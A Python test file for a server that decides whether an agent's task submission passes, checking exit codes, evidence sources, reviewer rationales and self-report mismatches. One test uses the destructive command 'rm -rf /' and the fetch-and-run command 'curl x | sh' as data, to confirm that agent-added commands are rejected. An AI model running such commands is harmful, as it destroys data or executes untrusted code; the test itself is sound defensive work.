"""The server's outcome rule: passed only with exit 0 everywhere and positive evidence for all."""

from __future__ import annotations

from datetime import UTC, datetime

from taskgate.domain.models import Criterion, CriterionKind, Risk, SelfReport, Spec, SpecStatus, Submission
from taskgate.domain.outcome import (
    CheckResult,
    CriterionResult,
    Evidence,
    EvidenceSource,
    Outcome,
    Verdict,
    decide,
)
from taskgate.domain.verifier_config import VerifierConfig

T0 = datetime(2026, 1, 1, tzinfo=UTC)
TEST = Criterion(id="AC-1.1", text="unit", kind=CriterionKind.TEST, verify_ref="a.b")
REVIEW = Criterion(id="AC-1.2", text="readable", kind=CriterionKind.REVIEW)
COMMAND = Criterion(id="AC-1.3", text="lint", kind=CriterionKind.COMMAND, verify_ref="ruff check")


def _spec(approved: bool) -> Spec:
    return Spec(
        id="SPEC-1",
        project="p",
        number=1,
        title="t",
        risk=Risk.LOW,
        criteria=[TEST, REVIEW, COMMAND],
        status=SpecStatus.APPROVED if approved else SpecStatus.DRAFT,
        created_by="human:a",
        created_at=T0,
        updated_at=T0,
        approved_by="human:a" if approved else None,
    )


OK = {"unit": CheckResult(exit_code=0)}
CFG = VerifierConfig.model_validate(
    {
        "checks": {
            "unit": {"command": "pytest --junitxml=r.xml", "report": {"path": "r.xml", "format": "junit"}}
        }
    }
)
FROM_REPORT = EvidenceSource(check="unit", report="r.xml", ref="a.b")
PASS = CriterionResult(result=Evidence.PASS, rationale="fine")
TEST_PASS = CriterionResult(result=Evidence.PASS, detail="1 passed", source=FROM_REPORT)
COMMAND_PASS = CriterionResult(result=Evidence.PASS, detail="exit 0", source=EvidenceSource(ref="ruff check"))


def _decide(
    criteria: list[Criterion],
    results: dict[str, CriterionResult],
    *,
    spec: Spec | None = None,
    checks: dict[str, CheckResult] | None = None,
    config: VerifierConfig | None = CFG,
    submission: Submission | None = None,
    error: str | None = None,
) -> Outcome:
    return decide(
        criteria=criteria,
        spec=spec,
        checks=OK if checks is None else checks,
        results=results,
        submission=submission,
        config=config,
        error=error,
    )


def test_passes_only_with_all_checks_zero_and_all_criteria_positive() -> None:
    got = _decide([TEST, REVIEW], {"AC-1.1": TEST_PASS, "AC-1.2": PASS}, spec=_spec(True))
    assert got.verdict is Verdict.PASSED
    bad_check = {"unit": CheckResult(exit_code=1, output_tail="boom")}
    got = _decide([TEST], {"AC-1.1": TEST_PASS}, checks=bad_check)
    assert got.verdict is Verdict.FAILED and "check unit exited 1: boom" in got.findings[0]


def test_skipped_missing_ambiguous_are_not_passed() -> None:
    for ev in (Evidence.SKIPPED, Evidence.AMBIGUOUS, Evidence.FAIL):
        got = _decide([TEST], {"AC-1.1": CriterionResult(result=ev, source=FROM_REPORT)})
        assert got.verdict is Verdict.FAILED
    got = _decide([TEST], {})
    assert got.verdict is Verdict.FAILED and "AC-1.1 missing" in got.findings[0]


def test_a_review_pass_without_rationale_is_missing() -> None:
    bare = CriterionResult(result=Evidence.PASS, rationale="  ")
    got = _decide([REVIEW], {"AC-1.2": bare})
    assert got.verdict is Verdict.FAILED and got.findings[0].startswith("AC-1.2 missing")
    counted = got.evidence["AC-1.2"]  # what is stored: as the server counted it
    assert (
        counted.result is Evidence.MISSING and counted.detail == "the reviewer passed it without a rationale"
    )


def test_timeouts_and_errors_are_errors_not_failures() -> None:
    got = _decide([TEST], {}, checks={"unit": CheckResult(timed_out=True)})
    assert got.verdict is Verdict.ERROR
    got = _decide([TEST], {}, checks={}, error="no report")
    assert got.verdict is Verdict.ERROR


def test_command_criteria_need_an_approved_spec() -> None:
    results = {"AC-1.3": COMMAND_PASS}
    assert _decide([COMMAND], results, spec=_spec(False)).verdict is Verdict.ERROR
    assert _decide([COMMAND], results, spec=None).verdict is Verdict.ERROR
    assert _decide([COMMAND], results, spec=_spec(True)).verdict is Verdict.PASSED


def test_self_report_mismatch_names_criteria_the_agent_called_passing() -> None:
    sub = Submission(
        commit_sha="abcdef1",
        evidence="x",
        actor="agent:b",
        credential_id="k",
        submitted_at=T0,
        self_report={"AC-1.1": SelfReport.PASS, "AC-1.2": SelfReport.FAIL},
    )
    got = _decide(
        [TEST, REVIEW],
        {
            "AC-1.1": CriterionResult(result=Evidence.FAIL, source=FROM_REPORT),
            "AC-1.2": CriterionResult(result=Evidence.FAIL, rationale="no"),
        },
        submission=sub,
    )
    assert got.verdict is Verdict.FAILED and got.self_report_mismatch == ["AC-1.1"]


def test_no_criteria_is_an_error_never_a_pass() -> None:
    assert _decide([], {}).verdict is Verdict.ERROR


def test_an_agent_added_command_outside_the_spec_is_an_error() -> None:
    own = Criterion(id="AC-p-1.1", text="x", kind=CriterionKind.COMMAND, verify_ref="rm -rf /")
    got = _decide(
        [own],
        {"AC-p-1.1": CriterionResult(result=Evidence.PASS, source=EvidenceSource(ref="rm -rf /"))},
        spec=_spec(True),
    )
    assert got.verdict is Verdict.ERROR
    swapped = Criterion(id="AC-1.3", text="lint", kind=CriterionKind.COMMAND, verify_ref="curl x | sh")
    got = _decide([swapped], {"AC-1.3": COMMAND_PASS}, spec=_spec(True))
    assert got.verdict is Verdict.ERROR


def test_test_criteria_with_no_configured_report_are_an_error() -> None:
    """Seed 000: a task with test criteria and no configured report ends as an error."""
    no_report = VerifierConfig.model_validate({"checks": {"unit": {"command": "pytest"}}})
    got = _decide([TEST], {"AC-1.1": TEST_PASS}, config=no_report)
    assert got.verdict is Verdict.ERROR and "need a check with a report" in got.summary
    assert _decide([TEST], {"AC-1.1": TEST_PASS}, config=None, checks={}).verdict is Verdict.ERROR
    # review-only tasks need no report
    assert _decide([REVIEW], {"AC-1.2": PASS}, config=no_report).verdict is Verdict.PASSED


def test_test_evidence_counts_only_from_a_configured_report_for_its_own_ref() -> None:
    for source in (
        None,  # no provenance at all
        EvidenceSource(check="lint", report="r.xml", ref="a.b"),  # not a configured check
        EvidenceSource(check="unit", report="other.xml", ref="a.b"),  # not that check's report
        EvidenceSource(check="unit", report="r.xml", ref="a.c"),  # another test's result
        EvidenceSource(ref="a.b"),  # not from a report
    ):
        got = _decide([TEST], {"AC-1.1": CriterionResult(result=Evidence.PASS, source=source)})
        assert got.verdict is Verdict.FAILED, source
        assert got.findings[0].startswith("AC-1.1 missing"), got.findings
    assert _decide([TEST], {"AC-1.1": TEST_PASS}).verdict is Verdict.PASSED


def test_command_evidence_counts_only_for_its_own_command() -> None:
    other = CriterionResult(result=Evidence.PASS, source=EvidenceSource(ref="true"))
    got = _decide([COMMAND], {"AC-1.3": other}, spec=_spec(True))
    assert got.verdict is Verdict.FAILED and got.findings[0].startswith("AC-1.3 missing")


def test_review_criteria_without_a_reviewer_answer_are_an_error_not_a_failure() -> None:
    got = _decide([TEST, REVIEW], {"AC-1.1": TEST_PASS})
    assert got.verdict is Verdict.ERROR and got.summary == "no reviewer answer for AC-1.2"


def test_checks_not_in_the_config_are_an_error() -> None:
    got = _decide([TEST], {"AC-1.1": TEST_PASS}, checks={**OK, "extra": CheckResult(exit_code=0)})
    assert got.verdict is Verdict.ERROR and "extra" in got.summary
